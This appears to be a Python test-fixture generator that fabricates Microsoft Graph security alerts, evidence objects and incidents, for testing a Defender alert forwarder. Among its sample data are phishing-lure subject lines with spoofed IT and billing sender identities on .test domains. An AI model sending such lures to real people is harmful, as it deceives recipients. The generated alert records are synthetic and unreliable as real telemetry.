_RESOLUTIONS: tuple[tuple[tuple[str, str | None], int], ...] = (
    (("truePositive", None), 55),
    (("falsePositive", "notMalicious"), 20),
    (("falsePositive", "notEnoughDataToValidate"), 8),
    (("informationalExpectedActivity", "securityTesting"), 9),
    (("informationalExpectedActivity", "lineOfBusinessApplication"), 8),
)

# Automated investigation runs for MDE and MDO alerts; other products report it unsupported.
_AIR_SOURCES = {MDE, MDO}
_INVESTIGATION_STATES: dict[str, tuple[str, ...]] = {
    "new": ("running", "pendingApproval", "queued", "unsupportedAlertType"),
    "inProgress": ("running", "pendingApproval", "partiallyRemediated"),
    "resolved": ("successfullyRemediated", "benign", "terminatedBySystem"),
}

_RISK_BY_SEVERITY = {"informational": "informational", "low": "low", "medium": "medium", "high": "high"}

_COMMENTS: tuple[str, ...] = (
    "Contacted the customer's IT contact; device isolated pending review.",
    "Confirmed with the user, activity was not initiated by them. Escalating.",
    "Matches the change ticket for the scheduled admin task, closing.",
    "Payload hash blocked tenant-wide; no other devices affected.",
)

# Cloud app catalogue entries for cloudApplicationEvidence (ids are illustrative).
_CLOUD_APPS: dict[str, tuple[int, str, int]] = {
    "exchange": (20893, "Microsoft Exchange Online", 20893),
    "sharepoint": (20892, "Microsoft SharePoint Online", 20892),
    "entra": (12260, "Microsoft Entra ID", 12260),
}

# Defender for Cloud puts its own alert type name into additionalData (names invented).
_MDC_ALERT_TYPES = {
    "mdc_storage_anomaly": "Storage.Blob_UnusualAnonymousRead",
    "mdc_keyvault_secrets": "KeyVault_UnusualSecretVolume",
}

_AZURE_RESOURCE_TYPES = {
    "storage": "Microsoft.Storage/storageAccounts",
    "keyvault": "Microsoft.KeyVault/vaults",
}

_MAIL_LURES: tuple[tuple[str, str, str], ...] = (  # (subject, sender display, sender address)
    ("Action required: invoice 88213 overdue", "Accounts Receivable", "billing@northbridge-delivery.test"),
    ("Your mailbox storage is almost full", "IT Service Desk", "it-support@account-check.test"),
    ("Shared document: Q4 salary review.xlsx", "SharePoint Online", "no-reply@invoice-portal.test"),
    ("Delivery attempt failed - reschedule", "Parcel Services", "notify@delivery-status.example.com"),
)


# --------------------------------------------------------------------------- per-alert context


@dataclass
class _Ctx:
    """Everything one alert's evidence builders share, so the pieces agree with each other."""

    rng: random.Random
    tenant_id: str
    org: _Org
    scenario: Scenario
    severity: str
    cloud_identity: bool  # cloud products name users by UPN, not by NT domain + SID
    first_activity: datetime
    evidence_created: str
    hosts: dict[str, _Host]
    people: dict[str, _Person]
    places: dict[str, _Place]
    values: dict[str, str]
    files: dict[str, dict[str, Any]] = field(default_factory=dict)

    def fill(self, template: str) -> str:
        return template.format(**self.values)

    def file(self, ref: str) -> dict[str, Any]:
        """FileDetails for a known image or a path variable; one object per alert and name."""
        if ref in _IMAGES:
            return _known_image(ref)
        if ref not in self.files:
            path = self.values[ref]
            directory, _, name = path.rpartition("\\")
            rng = self.rng
            self.files[ref] = _file_details(
                name, directory, rng.randint(40_000, 3_500_000), None,
                _rng_hex(rng, 40), _rng_hex(rng, 64), _rng_hex(rng, 32),
            )
        return copy.deepcopy(self.files[ref])


def _build_ctx(
    rng: random.Random, tenant_id: str, scenario: Scenario, severity: str, source: str,
    created: datetime, first_activity: datetime,
) -> _Ctx:
    org = _org_for(tenant_id)
    picks = rng.sample(range(len(_PEOPLE)), 3)
    people = {name: _person(org, tenant_id, i) for name, i in zip(("user", "second", "third"), picks)}
    user = people["user"]
    if scenario.host_kind == "server":
        primary = _host(org, tenant_id, f"{org.host_prefix}-{rng.choice(_SERVER_NAMES)}", "server")
    else:
        primary = _host(org, tenant_id, f"{org.host_prefix}-LT-{rng.randrange(100, 140):04d}", "workstation")
    dc = _host(org, tenant_id, f"{org.host_prefix}-DC0{rng.randint(1, 2)}", "dc")
    remote = rng.choice(_REMOTE_PLACES)
    values = {
        "user": user.account,
        "user_display": user.display,
        "upn": user.upn,
        "org": org.key,
        "host": primary.name,
        "dc": dc.name,
        "bad_domain": rng.choice(_BAD_DOMAINS),
        "token": _rng_hex(rng, 10),
        "lsass_pid": str(rng.randrange(600, 1200, 4)),
        "home_country": org.home.country or "",
        "remote_country": remote.country or "",
    }
    for name, choices in scenario.variables:
        values[name] = rng.choice(choices).format(**values)
        values[f"{name}_name"] = values[name].rpartition("\\")[2].rpartition("/")[2]
    values.setdefault("url", f"https://{values['bad_domain']}/{values['token']}")
    return _Ctx(
        rng=rng,
        tenant_id=tenant_id,
        org=org,
        scenario=scenario,
        severity=severity,
        cloud_identity=source in (MDO, MDCA, MDC),
        first_activity=first_activity,
        evidence_created=_jitter_time(rng, created + timedelta(milliseconds=rng.randint(150, 1800))),
        hosts={"primary": primary, "dc": dc},
        people=people,
        places={
            "remote": remote,
            "home": org.home,
            "host": _Place(primary.ip),
            "dns": _Place(dc.ip),
        },
        values=values,
    )


# --------------------------------------------------------------------------- evidence builders


def _base(ctx: _Ctx, kind: str, ev: Ev | None = None, tags: tuple[str, ...] = ()) -> dict[str, Any]:
    """The alertEvidence fields every evidence (nested ones too) carries, in Graph's order."""
    ev = ev or Ev(kind)
    return {
        "@odata.type": f"{_NS}{kind}Evidence",
        "createdDateTime": ctx.evidence_created,
        "verdict": ev.verdict,
        "remediationStatus": ev.remediation,
        "remediationStatusDetails": None,
        "roles": list(ev.roles),
        "detailedRoles": list(ev.detailed),
        "tags": list(tags),
    }


def _account(ctx: _Ctx, person: _Person) -> dict[str, Any]:
    if ctx.cloud_identity:
        return {
            "accountName": person.account,
            "domainName": ctx.org.domain,
            "userSid": None,
            "azureAdUserId": person.aad_id,
            "userPrincipalName": person.upn,
            "displayName": person.display,
            "activeDirectoryObjectGuid": None,
        }
    return {
        "accountName": person.account,
        "domainName": ctx.org.nt_domain,
        "userSid": person.sid,
        "azureAdUserId": person.aad_id,
        "userPrincipalName": person.upn,
        "displayName": person.display,
        "activeDirectoryObjectGuid": person.ad_guid,
    }


_SYSTEM_ACCOUNT = {
    "accountName": "SYSTEM",
    "domainName": "NT AUTHORITY",
    "userSid": "S-1-5-18",
    "azureAdUserId": None,
    "userPrincipalName": None,
    "displayName": "System",
    "activeDirectoryObjectGuid": None,
}


def _device(ctx: _Ctx, ev: Ev) -> dict[str, Any]:
    host = ctx.hosts[ev.args.get("host", "primary")]
    rng = ctx.rng
    platform, build, version = host.os
    out = _base(ctx, "device", ev, host.tags)
    out.update({
        "firstSeenDateTime": _jitter_time(rng, host.first_seen),
        "mdeDeviceId": host.mde_id,
        "azureAdDeviceId": host.aad_id,
        "deviceDnsName": host.fqdn,
        "hostName": host.name.lower(),
        "ntDomain": ctx.org.nt_domain,
        "dnsDomain": f"corp.{ctx.org.domain}",
        "osPlatform": platform,
        "osBuild": build,
        "version": version,
        "healthStatus": _weighted(rng, (("active", 90), ("inactive", 6), ("impairedCommunication", 4))),
        "riskScore": _RISK_BY_SEVERITY.get(ctx.severity.lower(), "none"),
        "rbacGroupId": host.rbac[0],
        "rbacGroupName": host.rbac[1],
        "onboardingStatus": "onboarded",
        "defenderAvStatus": _weighted(rng, (("updated", 85), ("notUpdated", 15))),
        "ipInterfaces": [host.ip, _link_local(host), "127.0.0.1", "::1"],
        "lastIpAddress": host.ip,
        "lastExternalIpAddress": ctx.org.home.ip,
        "loggedOnUsers": (
            [{"accountName": ctx.people["user"].account, "domainName": ctx.org.nt_domain}]
            if host.kind == "workstation" else []
        ),
        "vmMetadata": copy.deepcopy(host.vm),
    })
    return out


def _link_local(host: _Host) -> str:
    groups = _hex_of(16, "v6", host.mde_id)
    return "fe80::" + ":".join(groups[i : i + 4].lstrip("0") or "0" for i in range(0, 16, 4))


def _user(ctx: _Ctx, ev: Ev) -> dict[str, Any]:
    out = _base(ctx, "user", ev)
    out["userAccount"] = _account(ctx, ctx.people[ev.args.get("who", "user")])
    return out


def _process(ctx: _Ctx, ev: Ev) -> dict[str, Any]:
    rng = ctx.rng
    started = ctx.first_activity + timedelta(milliseconds=rng.randint(5, 900))
    parent_started = started - timedelta(seconds=rng.uniform(3, 4 * 3600))
    parent = ev.args["parent"]
    out = _base(ctx, "process", ev)
    out.update({
        "processId": rng.randrange(1000, 24000, 4),
        "parentProcessId": rng.randrange(600, 12000, 4),
        "processCommandLine": ctx.fill(ev.args["cmd"]),
        "processCreationDateTime": _jitter_time(rng, started),
        "parentProcessCreationDateTime": _jitter_time(rng, parent_started),
        "detectionStatus": ev.args.get("detection", "detected"),
        "mdeDeviceId": ctx.hosts["primary"].mde_id,
        "imageFile": ctx.file(ev.args["image"]),
        "parentProcessImageFile": _known_image(parent, hashes=rng.random() < 0.5),
        "userAccount": (
            dict(_SYSTEM_ACCOUNT) if ctx.scenario.host_kind == "server" and rng.random() < 0.3
            else _account(ctx, ctx.people["user"])
        ),
    })
    return out


def _file(ctx: _Ctx, ev: Ev) -> dict[str, Any]:
    out = _base(ctx, "file", ev)
    out.update({
        "detectionStatus": ev.args.get("detection", "detected"),
        "mdeDeviceId": ctx.hosts["primary"].mde_id,
        "fileDetails": ctx.file(ev.args.get("file", "payload")),
    })
    return out


def _registry_key(ctx: _Ctx, ev: Ev) -> dict[str, Any]:
    out = _base(ctx, "registryKey", ev)
    out.update({"registryKey": ev.args["key"], "registryHive": ev.args["hive"]})
    return out


def _registry_value(ctx: _Ctx, ev: Ev) -> dict[str, Any]:
    out = _base(ctx, "registryValue", ev)
    out.update({
        "mdeDeviceId": ctx.hosts["primary"].mde_id,
        "registryKey": ev.args["key"],
        "registryHive": ev.args["hive"],
        "registryValue": ctx.fill(ev.args["value"]),
        "registryValueName": ctx.fill(ev.args["name"]),
        "registryValueType": ev.args.get("type", "String"),
    })
    return out


def _ip_of(ctx: _Ctx, place: _Place, ev: Ev | None = None) -> dict[str, Any]:
    out = _base(ctx, "ip", ev)
    out["ipAddress"] = place.ip
    out["countryLetterCode"] = place.country_code
    # MDE fills only the country code; identity and cloud products add the geolocation.
    if place.city and ctx.scenario.service_source != MDE:
        out["location"] = {
            "city": place.city,
            "state": place.state,
            "countryName": place.country,
            "latitude": place.latitude,
            "longitude": place.longitude,
        }
    return out


def _ip(ctx: _Ctx, ev: Ev) -> dict[str, Any]:
    return _ip_of(ctx, ctx.places[ev.args.get("place", "remote")], ev)


def _url(ctx: _Ctx, ev: Ev) -> dict[str, Any]:
    out = _base(ctx, "url", ev)
    out["url"] = ctx.fill(ev.args.get("url", "{url}"))
    return out


def _mailbox(ctx: _Ctx, ev: Ev) -> dict[str, Any]:
    person = ctx.people[ev.args.get("who", "user")]
    out = _base(ctx, "mailbox", ev)
    out.update({
        "primaryAddress": person.upn,
        "upn": person.upn,
        "displayName": person.display,
        "userAccount": _account(ctx, person),
    })
    return out


def _analyzed_message(ctx: _Ctx, ev: Ev) -> dict[str, Any]:
    rng = ctx.rng
    subject, sender_name, sender = rng.choice(_MAIL_LURES)
    sender_domain = sender.partition("@")[2]
    received = ctx.first_activity - timedelta(minutes=rng.uniform(1, 40))
    url = ctx.values["url"]
    out = _base(ctx, "analyzedMessage", ev)
    out.update({
        "networkMessageId": _rng_guid(rng),
        "internetMessageId": f"<{_rng_hex(rng, 24).upper()}@{sender_domain}>",
        "subject": subject,
        "p1Sender": {"emailAddress": sender, "displayName": sender_name, "domainName": sender_domain},
        "p2Sender": {"emailAddress": sender, "displayName": sender_name, "domainName": sender_domain},
        "recipientEmailAddress": ctx.people["user"].upn,
        "senderIp": ctx.places["remote"].ip,
        "receivedDateTime": _jitter_time(rng, received),
        "deliveryAction": "delivered",
        "deliveryLocation": ev.args.get("location", "inbox"),
        "antiSpamDirection": "inbound",
        "urls": [url],
        "urlCount": 1,
        "attachmentsCount": 0,
        "threats": ["Phish"],
        "threatDetectionMethods": ["urlDetonationReputation"],
        "language": "en",
        "urn": f"urn:MailEntity:{_rng_hex(rng, 32)}",
    })
    return out


def _cloud_application(ctx: _Ctx, ev: Ev) -> dict[str, Any]:
    app_id, name, saas_id = _CLOUD_APPS[ev.args["app"]]
    out = _base(ctx, "cloudApplication", ev)
    out.update({
        "appId": app_id,
        "displayName": name,
        "instanceId": 0,
        "instanceName": name,
        "saasAppId": saas_id,
    })
    return out


def _oauth_application(ctx: _Ctx, ev: Ev) -> dict[str, Any]:
    name = ctx.values["oauth_app"]
    out = _base(ctx, "oauthApplication", ev)
    out.update({
        "appId": _guid_of("app", ctx.tenant_id, name),
        "displayName": name,
        "objectId": _guid_of("sp", ctx.tenant_id, name),
        "publisher": ctx.org.key.capitalize(),
    })
    return out


def _azure_resource(ctx: _Ctx, ev: Ev) -> dict[str, Any]:
    resource_type = _AZURE_RESOURCE_TYPES[ev.args["kind_"]]
    name = ctx.values["resource"]
    subscription = _guid_of("sub", ctx.tenant_id)
    out = _base(ctx, "azureResource", ev)
    out.update({
        "resourceId": (
            f"/subscriptions/{subscription}/resourceGroups/rg-{ctx.org.key}-prod/providers/{resource_type}/{name}"
        ),
        "resourceName": name,
        "resourceType": resource_type,
    })
    return out


def _dns(ctx: _Ctx, ev: Ev) -> dict[str, Any]:
    out = _base(ctx, "dns", ev)
    out.update({
        "domainName": ctx.values["bad_domain"],
        "dnsServerIp": _ip_of(ctx, ctx.places["dns"]),
        "hostIpAddress": _ip_of(ctx, ctx.places["host"]),
        "ipAddresses": [_ip_of(ctx, ctx.places["remote"])],
    })
    return out


def _network_connection(ctx: _Ctx, ev: Ev) -> dict[str, Any]:
    out = _base(ctx, "networkConnection", ev)
    out.update({
        "sourceAddress": _ip_of(ctx, ctx.places["host"]),
        "sourcePort": ctx.rng.randint(49152, 65535),
        "destinationAddress": _ip_of(ctx, ctx.places["remote"]),
        "destinationPort": ctx.rng.choice((443, 443, 8443, 80)),
        "protocol": "tcp",
    })
    return out


def _malware(ctx: _Ctx, ev: Ev) -> dict[str, Any]:
    nested_file = _base(ctx, "file", Ev("file", verdict=ev.verdict, remediation=ev.remediation))
    nested_file.update({
        "detectionStatus": "prevented",
        "mdeDeviceId": ctx.hosts["primary"].mde_id,
        "fileDetails": ctx.file("payload"),
    })
    out = _base(ctx, "malware", ev)
    out.update({
        "name": ctx.scenario.threat[0] if ctx.scenario.threat else "Trojan:Win32/Generic",
        "category": ev.args.get("category", "Trojan"),
        "files": [nested_file],
        "processes": [],
    })
    return out


def _mailbox_configuration(ctx: _Ctx, ev: Ev) -> dict[str, Any]:
    person = ctx.people["user"]
    out = _base(ctx, "mailboxConfiguration", ev)
    out.update({
        "configurationId": _rng_guid(ctx.rng),
        "configurationType": "mailForwardingRule",
        "displayName": person.display,
        "externalDirectoryObjectId": person.aad_id,
        "mailboxPrimaryAddress": person.upn,
        "upn": person.upn,
    })
    return out


_BUILDERS: dict[str, Callable[[_Ctx, Ev], dict[str, Any]]] = {
    "device": _device,
    "user": _user,
    "process": _process,
    "file": _file,
    "registryKey": _registry_key,
    "registryValue": _registry_value,
    "ip": _ip,
    "url": _url,
    "mailbox": _mailbox,
    "analyzedMessage": _analyzed_message,
    "cloudApplication": _cloud_application,
    "oauthApplication": _oauth_application,
    "azureResource": _azure_resource,
    "dns": _dns,
    "networkConnection": _network_connection,
    "malware": _malware,
    "mailboxConfiguration": _mailbox_configuration,
}


# --------------------------------------------------------------------------- alert-level pieces


def _pick_scenario(rng: random.Random, service_source: str | None) -> Scenario:
    source = service_source or _weighted(rng, _SOURCE_WEIGHTS)
    matching = [s for s in SCENARIOS if s.service_source.lower() == source.lower()]
    return rng.choice(matching or SCENARIOS)


def _new_ids(rng: random.Random, source: str, created: datetime) -> tuple[str, str]:
    """(id, providerAlertId) in the shapes each product uses."""
    prefix = _PRODUCTS.get(source, ("ms", ""))[0]
    if source == MDE:
        if rng.random() < 0.7:
            # Classic MDE ids: "da" + .NET ticks of creation + "_" + a signed 32-bit hash;
            # Graph's id and providerAlertId are then the same string.
            ticks = (created - _DOTNET_EPOCH) // timedelta(microseconds=1) * 10 + rng.randrange(10)
            alert_id = f"da{ticks}_{rng.randint(-2**31, 2**31 - 1)}"
            return alert_id, alert_id
        provider = f"{_rng_guid(rng)}_1"
    elif source == MDCA:
        provider = _rng_hex(rng, 24)
    else:
        provider = _rng_guid(rng)
    return prefix + provider, provider


def _provider_id_for(alert_id: str) -> str:
    if re.fullmatch(r"da\d{16,}_-?\d+", alert_id):
        return alert_id
    if len(alert_id) > 2 and alert_id[:2].isalpha() and alert_id[:2].islower():
        return alert_id[2:]
    return alert_id


def _pascal(value: str | None) -> str | None:
    return value[:1].upper() + value[1:] if value else value


def _verdict(rng: random.Random, status: str, scenario: Scenario) -> tuple[str | None, str | None]:
    """(classification, determination) for an alert of this status."""
    if status == "new" or (status == "inProgress" and rng.random() < 0.7):
        # Untriaged: real data shows both nulls and explicit "unknown".
        return (None, None) if rng.random() < 0.6 else ("unknown", "unknown")
    if status == "inProgress":
        return "truePositive", scenario.true_positive
    classification, determination = _weighted(rng, _RESOLUTIONS)
    pair = (classification, determination or scenario.true_positive)
    # Microsoft is inconsistent about enum casing (docs show "TruePositive"); so are we, sometimes.
    if rng.random() < 0.12:
        return _pascal(pair[0]), _pascal(pair[1])
    return pair


def _extras(
    rng: random.Random, source: str, detection: str, scenario: Scenario, ctx: _Ctx,
) -> tuple[str | None, Any, dict[str, str]]:
    """(alertPolicyId, additionalData, customDetails), which differ by product."""
    if detection == "customDetection":
        return (
            str(rng.randint(100, 999)),
            {},
            {"InitiatingUser": ctx.values["upn"], "DeviceName": ctx.hosts["primary"].fqdn, "RuleVersion": "3"},
        )
    if source == MDC:
        resource = ctx.values.get("resource", "")
        return None, {
            "CompromisedEntity": resource,
            "AlertType": _MDC_ALERT_TYPES.get(scenario.key, "Unknown"),
            "ResourceGroup": f"rg-{ctx.org.key}-prod",
        }, {}
    if source == MDO:
        return _guid_of("mdo-policy", scenario.key), {}, {}
    if source == MDCA:
        return _hex_of(24, "mdca-policy", ctx.tenant_id, scenario.key), None, {}
    return None, rng.choice((None, {})), {}


def _investigation_state(rng: random.Random, source: str, status: str) -> str:
    if source not in _AIR_SOURCES:
        return "unsupportedAlertType"
    return rng.choice(_INVESTIGATION_STATES.get(status, ("unknown",)))


def _alert_url(alert_id: str, tenant_id: str) -> str:
    return f"{_PORTAL}/alerts/{alert_id}?tid={tenant_id}"


def _incident_url(incident_id: str, tenant_id: str) -> str:
    return f"{_PORTAL}/incidents/{incident_id}?tid={tenant_id}"


def comment(text: str, author: str, when: datetime) -> dict[str, Any]:
    """One alertComment as Graph's metadata defines it."""
    return {"comment": text, "createdByDisplayName": author, "createdDateTime": graph_time(when)}


# --------------------------------------------------------------------------- public API


def make_alert(
    rng: random.Random,
    tenant_id: str,
    last_update: datetime,
    *,
    alert_id: str | None = None,
    severity: str | None = None,
    service_source: str | None = None,
    created: datetime | None = None,
) -> dict:
    """One alerts_v2 alert of `tenant_id` whose lastUpdateDateTime is exactly `last_update`.

    `severity` and `service_source` are emitted verbatim (pass "High" to test casing, or a
    serviceSource no scenario covers to get a known scenario under that new name).
    """
    scenario = _pick_scenario(rng, service_source)
    source = service_source or scenario.service_source  # emitted as given
    if scenario.service_source.lower() == source.lower():
        kind = scenario.service_source  # canonical spelling, for the lookups below
        detection = rng.choice(scenario.detection_sources)
    else:
        kind = source
        detection = _FALLBACK_DETECTION.get(source, "unknown")
    product = _PRODUCTS.get(kind, ("", None))[1]
    severity = severity or rng.choice(scenario.severities)
    status = _weighted(rng, _STATUS_WEIGHTS)
    created_tick = 0  # the caller's own instant must parse back unchanged
    if created is None:
        low, high = _AGE_BY_STATUS[status]
        created = last_update - timedelta(seconds=rng.uniform(low, high))
        created_tick = rng.randrange(10)
    first_activity = created - timedelta(seconds=rng.uniform(40, 3 * 3600))
    last_activity = first_activity + (created - first_activity) * rng.uniform(0.05, 0.9)

    ctx = _build_ctx(rng, tenant_id, scenario, severity, kind, created, first_activity)
    evidence = [_BUILDERS[ev.kind](ctx, ev) for ev in scenario.evidence]

    if alert_id is None:
        alert_id, provider_id = _new_ids(rng, kind, created)
    else:
        provider_id = _provider_id_for(alert_id)
    incident_id = str(rng.randint(1200, 48000))
    classification, determination = _verdict(rng, status, scenario)
    policy_id, additional, custom = _extras(rng, kind, detection, scenario, ctx)
    assigned = None if status == "new" else rng.choice(_ANALYSTS + ("Automation",))
    comments = []
    if assigned and assigned != "Automation" and rng.random() < 0.5:
        comments.append(comment(rng.choice(_COMMENTS), assigned, last_update - timedelta(seconds=rng.uniform(1, 120))))
    resolved = (
        _jitter_time(rng, last_update - timedelta(milliseconds=rng.randint(0, 2500)))
        if status == "resolved" else None
    )
    threat_name, threat_family = scenario.threat or (None, None)

    alert: dict[str, Any] = {
        "id": alert_id,
        "providerAlertId": provider_id,
        "incidentId": incident_id,
        "status": status,
        "severity": severity,
        "classification": classification,
        "determination": determination,
        "serviceSource": source,
        "detectionSource": detection,
        "productName": product,
        "detectorId": _guid_of("detector", scenario.key),
        "tenantId": tenant_id,
        "title": scenario.title,
        "description": ctx.fill(scenario.description),
        "recommendedActions": scenario.recommended_actions,
        "category": scenario.category,
        "categories": [scenario.category],
        "assignedTo": assigned,
        "alertWebUrl": _alert_url(alert_id, tenant_id),
        "incidentWebUrl": _incident_url(incident_id, tenant_id),
        "actorDisplayName": scenario.actor if rng.random() < 0.6 else None,
        "threatDisplayName": threat_name,
        "threatFamilyName": threat_family,
        "mitreTechniques": list(scenario.mitre),
        "createdDateTime": graph_time(created, created_tick),
        "lastUpdateDateTime": graph_time(last_update),
        "resolvedDateTime": resolved,
        "firstActivityDateTime": _jitter_time(rng, first_activity),
        "lastActivityDateTime": _jitter_time(rng, last_activity),
        "alertPolicyId": policy_id,
        "investigationState": _investigation_state(rng, kind, status),
        "additionalData": additional,
        "customDetails": custom,
        "comments": comments,
        "evidence": evidence,
        "systemTags": ["Defender Experts"] if kind == MDE and rng.random() < 0.08 else [],
    }
    if rng.random() < 0.15:  # older tenants' responses predate `categories`
        del alert["categories"]
    return alert


def make_alerts(n: int, tenant_id: str, start: datetime, step: timedelta, seed: int = 0) -> list[dict]:
    """`n` alerts of one tenant, the i-th last updated at `start + i * step`.

    Same (n, tenant_id, start, step, seed) -> same list. The tenant id is part of the seed
    so that two tenants generated with one seed do not share alert ids.
    """
    rng = random.Random(f"alerts_v2/{seed}/{tenant_id}")
    alerts: list[dict] = []
    seen: set[str] = set()
    for i in range(n):
        alert = make_alert(rng, tenant_id, start + i * step)
        while alert["id"] in seen:  # astronomically rare, but ids must be unique
            alert = make_alert(rng, tenant_id, start + i * step)
        seen.add(alert["id"])
        alerts.append(alert)
    return alerts


def updated_version(alert: dict, last_update: datetime, **changes: Any) -> dict:
    """A later version of `alert`: same id, lastUpdateDateTime = `last_update`, `changes` applied.

    `changes` use Graph property names (`status="inProgress"`, `severity="high"`,
    `classification="truePositive"`, `assignedTo=...`, `comments=[...]`); datetime values are
    written the Graph way. `resolvedDateTime` follows `status` unless given explicitly.
    The input alert is not modified.
    """
    unknown = sorted(set(changes) - set(ALERT_PROPERTIES))
    if unknown:
        raise KeyError(f"not alerts_v2 properties: {', '.join(unknown)}")
    frozen = sorted(set(changes) & _IMMUTABLE)
    if frozen:
        raise ValueError(f"an updated version keeps its identity; cannot change {', '.join(frozen)}")
    new = copy.deepcopy(alert)
    for key, value in changes.items():
        new[key] = graph_time(value) if isinstance(value, datetime) else copy.deepcopy(value)
    new["lastUpdateDateTime"] = graph_time(last_update)
    if "resolvedDateTime" not in changes:
        if str(new.get("status", "")).lower() == "resolved":
            new["resolvedDateTime"] = new.get("resolvedDateTime") or graph_time(last_update)
        else:
            new["resolvedDateTime"] = None  # reopened or never resolved
    if "incidentId" in changes:
        new["incidentWebUrl"] = _incident_url(str(new["incidentId"]), str(new["tenantId"]))
    return new


_SEVERITY_ORDER = ("informational", "low", "medium", "high")


def make_incidents(alerts: list[dict], **changes: Any) -> list[dict]:
    """The Graph incidents (`microsoft.graph.security.incident`) of `alerts`, one per distinct
    `incidentId`, as Defender correlates them: the highest severity of its alerts, created with
    the first, last updated with the latest of them (Graph property names; `changes` set on
    every incident, e.g. `status="redirected"`)."""
    grouped: dict[str, list[dict]] = {}
    for alert in alerts:
        grouped.setdefault(str(alert["incidentId"]), []).append(alert)
    incidents = []
    for incident_id, members in grouped.items():
        first = min(members, key=lambda a: a["createdDateTime"])
        severities = [str(a.get("severity", "")).lower() for a in members]
        severity = max(severities, key=lambda s: _SEVERITY_ORDER.index(s) if s in _SEVERITY_ORDER else -1)
        tenant_id = str(first["tenantId"])
        incident = {
            "@odata.type": "#microsoft.graph.security.incident",
            "id": incident_id,
            "incidentWebUrl": _incident_url(incident_id, tenant_id),
            "redirectIncidentId": None,
            "tenantId": tenant_id,
            "displayName": f"{first['title']} on {len(members)} alert(s)",
            "createdDateTime": first["createdDateTime"],
            "lastUpdateDateTime": max(a["lastUpdateDateTime"] for a in members),
            "assignedTo": first.get("assignedTo"),
            "classification": first.get("classification"),
            "determination": first.get("determination"),
            "status": "active",
            "severity": severity,
            "customTags": [],
            "systemTags": [],
            "comments": [],
            "description": first.get("description"),
            "summary": None,
            "resolvingComment": None,
            "lastModifiedBy": "API-App:defender-forwarder-tests",
            "priorityScore": _int_of(0, 100, "priority", incident_id),
        }
        incident.update({key: graph_time(value) if isinstance(value, datetime) else value
                         for key, value in changes.items()})
        incidents.append(incident)
    return incidents


def list_response(alerts: list[dict], next_link: str | None = None) -> dict:
    """A `GET /security/alerts_v2` response body holding `alerts`."""
    body: dict[str, Any] = {"@odata.context": GRAPH_ALERTS_CONTEXT, "value": alerts}
    if next_link is not None:
        body["@odata.nextLink"] = next_link
    return body
